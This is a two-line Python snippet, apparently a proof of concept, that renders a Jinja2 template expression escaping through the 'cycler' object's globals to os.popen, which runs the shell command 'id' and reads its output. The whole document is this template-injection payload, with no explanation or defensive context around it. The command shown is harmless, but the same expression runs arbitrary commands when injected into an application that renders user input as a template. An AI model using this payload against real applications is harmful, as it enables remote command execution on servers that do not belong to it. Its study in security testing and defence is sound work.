import jinja2
jinja2.Template("{{ cycler.__init__.__globals__.os.popen('id').read() }}").render()
